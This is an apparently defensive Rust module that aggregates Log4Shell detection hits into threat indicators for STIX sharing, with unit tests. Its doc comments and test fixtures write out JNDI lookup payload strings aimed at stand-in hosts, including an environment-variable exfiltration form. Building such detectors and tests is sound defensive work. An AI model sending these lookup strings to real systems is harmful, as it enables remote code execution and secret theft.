//! Indicators and sightings: what log detection turns exploitation attempts
//! into, so that they can be shared.
//!
//! An [`Observation`] is one detector hit reduced to what matters for sharing
//! (the rule, the callback host, the addresses inside a decoded command, the
//! requester's address and when). [`aggregate`] folds observations into
//! [`Indicator`]s: one per observable and role, with counts and first/last
//! seen. A sighting is "this indicator was seen N times between first and
//! last by this sensor"; the wire formats (STIX 2.1 `indicator` + `sighting`)
//! live in `vigilo-formats`.

use std::collections::BTreeMap;
use std::fmt;
use std::net::IpAddr;

use jiff::Timestamp;

/// What kind of thing an observable value is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ObservableKind {
    DomainName,
    Ipv4Addr,
    Ipv6Addr,
    Url,
}

impl ObservableKind {
    pub fn as_str(self) -> &'static str {
        match self {
            ObservableKind::DomainName => "domain-name",
            ObservableKind::Ipv4Addr => "ipv4-addr",
            ObservableKind::Ipv6Addr => "ipv6-addr",
            ObservableKind::Url => "url",
        }
    }

    pub fn parse(s: &str) -> Option<ObservableKind> {
        Some(match s {
            "domain-name" => ObservableKind::DomainName,
            "ipv4-addr" => ObservableKind::Ipv4Addr,
            "ipv6-addr" => ObservableKind::Ipv6Addr,
            "url" => ObservableKind::Url,
            _ => return None,
        })
    }
}

impl fmt::Display for ObservableKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A typed value: a host name, an address or a URL.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Observable {
    pub kind: ObservableKind,
    pub value: String,
}

impl Observable {
    /// A host as written in a URL: an IP address (brackets stripped) or a
    /// domain name (lower-cased, trailing dot removed). `None` for an empty
    /// host or one that still holds unresolved lookups.
    pub fn host(host: &str) -> Option<Observable> {
        let h = host.trim().trim_start_matches('[').trim_end_matches(']');
        let h = h.trim_end_matches('.');
        if h.is_empty() || h.contains("${") || h.contains('}') || h.contains(char::is_whitespace) {
            return None;
        }
        match h.parse::<IpAddr>() {
            Ok(IpAddr::V4(a)) => Some(Observable {
                kind: ObservableKind::Ipv4Addr,
                value: a.to_string(),
            }),
            Ok(IpAddr::V6(a)) => Some(Observable {
                kind: ObservableKind::Ipv6Addr,
                value: a.to_string(),
            }),
            Err(_) => Some(Observable {
                kind: ObservableKind::DomainName,
                value: h.to_lowercase(),
            }),
        }
    }

    pub fn ip(ip: IpAddr) -> Observable {
        match ip {
            IpAddr::V4(a) => Observable {
                kind: ObservableKind::Ipv4Addr,
                value: a.to_string(),
            },
            IpAddr::V6(a) => Observable {
                kind: ObservableKind::Ipv6Addr,
                value: a.to_string(),
            },
        }
    }

    pub fn url(url: &str) -> Observable {
        Observable {
            kind: ObservableKind::Url,
            value: url.to_owned(),
        }
    }
}

impl fmt::Display for Observable {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.kind, self.value)
    }
}

/// Why an observable was recorded.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum IndicatorRole {
    /// The host a lookup calls back to (`${jndi:ldap://HOST/…}`): the
    /// attacker's infrastructure.
    Callback,
    /// A URL or address inside a decoded second-stage command
    /// (`/Basic/Command/Base64/…`): where the payload is fetched from.
    Payload,
    /// The address the malicious request came from.
    Source,
}

impl IndicatorRole {
    pub fn as_str(self) -> &'static str {
        match self {
            IndicatorRole::Callback => "callback",
            IndicatorRole::Payload => "payload",
            IndicatorRole::Source => "source",
        }
    }

    pub fn parse(s: &str) -> Option<IndicatorRole> {
        Some(match s {
            "callback" => IndicatorRole::Callback,
            "payload" => IndicatorRole::Payload,
            "source" => IndicatorRole::Source,
            _ => return None,
        })
    }
}

impl fmt::Display for IndicatorRole {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One detector hit, reduced to what sharing needs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Observation {
    /// The detector's rule code (`log4shell-jndi`, …).
    pub rule: String,
    /// The decoded payload.
    pub decoded: String,
    /// The callback host, when the hit is a remote lookup.
    pub callback: Option<Observable>,
    /// URLs and addresses found in a decoded command.
    pub payload: Vec<Observable>,
    /// The requester's address, when the log line records it.
    pub source_ip: Option<IpAddr>,
    /// When the line was logged, when the log line records it.
    pub timestamp: Option<Timestamp>,
}

/// An observable seen in one or more hits, with how often and when.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Indicator {
    pub observable: Observable,
    pub role: IndicatorRole,
    /// The rules whose hits named it, sorted, without duplicates.
    pub rules: Vec<String>,
    pub count: u64,
    pub first_seen: Option<Timestamp>,
    pub last_seen: Option<Timestamp>,
    /// One decoded payload that named it (the first one seen).
    pub example: String,
}

impl Indicator {
    /// Folds another sighting of the same observable and role into this one.
    pub fn merge(&mut self, other: &Indicator) {
        self.count += other.count;
        for r in &other.rules {
            if !self.rules.contains(r) {
                self.rules.push(r.clone());
            }
        }
        self.rules.sort();
        self.first_seen = min_opt(self.first_seen, other.first_seen);
        self.last_seen = max_opt(self.last_seen, other.last_seen);
        if self.example.is_empty() {
            self.example.clone_from(&other.example);
        }
    }
}

fn min_opt(a: Option<Timestamp>, b: Option<Timestamp>) -> Option<Timestamp> {
    match (a, b) {
        (Some(x), Some(y)) => Some(x.min(y)),
        (x, None) => x,
        (None, y) => y,
    }
}

fn max_opt(a: Option<Timestamp>, b: Option<Timestamp>) -> Option<Timestamp> {
    match (a, b) {
        (Some(x), Some(y)) => Some(x.max(y)),
        (x, None) => x,
        (None, y) => y,
    }
}

/// Folds observations into indicators, one per (role, observable), ordered
/// by role, then by count (most first), then by value. Source addresses are
/// recorded only for hits that are attacks (`attack(rule)` is true), so that
/// benign informational hits never turn a requester into an indicator.
pub fn aggregate<'a>(
    observations: impl IntoIterator<Item = &'a Observation>,
    attack: impl Fn(&str) -> bool,
) -> Vec<Indicator> {
    let mut map: BTreeMap<(IndicatorRole, Observable), Indicator> = BTreeMap::new();
    let mut add = |role: IndicatorRole, obs: &Observable, o: &Observation| {
        let one = Indicator {
            observable: obs.clone(),
            role,
            rules: vec![o.rule.clone()],
            count: 1,
            first_seen: o.timestamp,
            last_seen: o.timestamp,
            example: o.decoded.clone(),
        };
        map.entry((role, obs.clone()))
            .and_modify(|i| i.merge(&one))
            .or_insert(one);
    };
    for o in observations {
        if !attack(&o.rule) {
            continue;
        }
        if let Some(cb) = &o.callback {
            add(IndicatorRole::Callback, cb, o);
        }
        for p in &o.payload {
            add(IndicatorRole::Payload, p, o);
        }
        if let Some(ip) = o.source_ip {
            add(IndicatorRole::Source, &Observable::ip(ip), o);
        }
    }
    let mut out: Vec<Indicator> = map.into_values().collect();
    out.sort_by(|a, b| {
        a.role
            .cmp(&b.role)
            .then(b.count.cmp(&a.count))
            .then_with(|| a.observable.cmp(&b.observable))
    });
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn obs(rule: &str, host: &str, ip: Option<&str>, t: Option<&str>) -> Observation {
        Observation {
            rule: rule.into(),
            decoded: format!("${{jndi:ldap://{host}/a}}"),
            callback: Observable::host(host),
            payload: vec![],
            source_ip: ip.map(|s| s.parse().unwrap_or(IpAddr::from([0, 0, 0, 0]))),
            timestamp: t.and_then(|s| s.parse().ok()),
        }
    }

    #[test]
    fn hosts_are_typed_and_normalised() {
        assert_eq!(
            Observable::host("Evil.Example."),
            Some(Observable {
                kind: ObservableKind::DomainName,
                value: "evil.example".into()
            })
        );
        assert_eq!(
            Observable::host("[::1]").map(|o| o.kind),
            Some(ObservableKind::Ipv6Addr)
        );
        assert_eq!(
            Observable::host("10.0.0.1").map(|o| o.kind),
            Some(ObservableKind::Ipv4Addr)
        );
        assert_eq!(Observable::host("${env:X}.evil.example"), None);
        assert_eq!(Observable::host(""), None);
    }

    #[test]
    fn aggregation_counts_and_bounds_times() {
        let all = vec![
            obs(
                "log4shell-jndi",
                "a.example",
                Some("192.0.2.1"),
                Some("2021-12-10T10:00:00Z"),
            ),
            obs(
                "log4shell-jndi",
                "A.example",
                Some("192.0.2.1"),
                Some("2021-12-09T10:00:00Z"),
            ),
            obs("log4shell-jndi-exfil", "a.example", None, None),
            obs("lookup-benign", "b.example", Some("192.0.2.9"), None),
        ];
        let ind = aggregate(&all, |r| r != "lookup-benign");
        assert_eq!(ind.len(), 2);
        assert_eq!(ind[0].role, IndicatorRole::Callback);
        assert_eq!(ind[0].count, 3);
        assert_eq!(ind[0].rules, vec!["log4shell-jndi", "log4shell-jndi-exfil"]);
        assert_eq!(
            ind[0].first_seen.map(|t| t.to_string()),
            Some("2021-12-09T10:00:00Z".into())
        );
        assert_eq!(
            ind[0].last_seen.map(|t| t.to_string()),
            Some("2021-12-10T10:00:00Z".into())
        );
        assert_eq!(ind[1].role, IndicatorRole::Source);
        assert_eq!(ind[1].count, 2);
    }
}
